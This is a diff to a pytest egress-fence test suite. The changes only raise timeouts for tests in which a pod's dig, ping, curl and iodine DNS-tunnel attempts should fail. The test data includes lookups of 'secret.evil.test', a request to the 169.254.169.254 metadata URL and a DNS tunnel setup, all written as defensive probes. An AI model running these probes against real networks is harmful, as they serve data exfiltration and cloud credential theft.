@@ -38,21 +38,21 @@ def standing(gateway, side):
 
 
 def run(side, *argv):
-    return side.pod.command(*argv, check=False, timeout=seconds(60))
+    return side.pod.command(*argv, check=False, timeout=seconds(120))
 
 
 @OPEN
 @pytest.mark.parametrize("how", ["+notcp", "+tcp", "+ignore +bufsize=4096"])
 def test_dig_asks_no_public_resolver(gateway, side, standing, fence, how):
     standing(fence)
-    said = run(side, "dig", "+time=1", "+tries=1", "+short", *how.split(), "@8.8.8.8", "secret.evil.test", "A").stdout.strip()
+    said = run(side, "dig", "+time=1" if fence else "+time=20", "+tries=1", "+short", *how.split(), "@8.8.8.8", "secret.evil.test", "A").stdout.strip()
     assert said.startswith("198.51.") is not fence
     assert bool(settled(gateway.tap)) is not fence
 
 
 def test_dig_learns_nothing_from_the_closed_resolver(gateway, side, standing):
     standing(True)
-    asked = lambda name, kind: run(side, "dig", "+time=2", "+tries=3", "+short", f"@{side.four}", name, kind).stdout.split()
+    asked = lambda name, kind: run(side, "dig", "+time=20", "+tries=3", "+short", f"@{side.four}", name, kind).stdout.split()
     assert asked("site.test", "A") == asked("secret.evil.test", "A") == asked("no.such.name", "A") == ["192.0.2.1"]
     assert [asked("site.test", kind) for kind in ("AAAA", "TXT", "MX", "NULL", "SRV")] == [[]] * 5
     assert settled(gateway.tap) == set()
@@ -62,7 +62,7 @@ def test_dig_learns_nothing_from_the_closed_resolver(gateway, side, standing):
 @pytest.mark.parametrize("address", ["8.8.8.8", "2001:4860:4860::8888"])
 def test_ping_finds_nobody(gateway, side, standing, fence, address):
     standing(fence)
-    done = run(side, "ping", "-n", "-c", "1", "-W", "2", address)
+    done = run(side, "ping", "-n", "-c", "1", "-W", "2" if fence else "20", address)
     assert (done.returncode == 0) is not fence and bool(settled(gateway.tap)) is not fence
 
 
@@ -70,7 +70,7 @@ def test_ping_finds_nobody(gateway, side, standing, fence, address):
 @pytest.mark.parametrize("url", ["http://93.184.216.99.evil.test/", "https://8.8.8.8/", "http://[2001:4860:4860::8888]/", "telnet://8.8.8.8:22", "http://169.254.169.254/latest/meta-data/"])
 def test_curl_gets_nowhere_by_an_address(gateway, side, standing, fence, url):
     standing(fence)
-    done = curl("--resolve", "93.184.216.99.evil.test:80:8.8.4.4", "--insecure", "--max-time", "5", url, namespace=side.pod)
+    done = curl("--resolve", "93.184.216.99.evil.test:80:8.8.4.4", "--insecure", "--max-time", "20", url, namespace=side.pod)
     assert done.returncode != 28 or not fence, "a refusal is told, not waited for"
     assert bool(settled(gateway.tap)) is not fence and b"hello" not in (done.stdout if fence else b"")
 
@@ -84,7 +84,7 @@ def iodine_server(gateway):
         yield
     finally:
         server.terminate()
-        server.wait(seconds(10))
+        server.wait(seconds(60))
 
 
 def tunnel_stands(side, resolver):
@@ -97,10 +97,10 @@ def tunnel_stands(side, resolver):
             return said.read()
 
         up = lambda: "Server tunnel IP is" in words()
-        wait_until(lambda: up() or words().count("Retrying") > 2 or client.poll() is not None, 90, "iodine has a tunnel or has given up")
+        wait_until(lambda: up() or words().count("Retrying") > 2 or client.poll() is not None, 180, "iodine has a tunnel or has given up")
         stands = up()
         client.kill()
-        client.wait(seconds(10))
+        client.wait(seconds(60))
         return stands
 
 
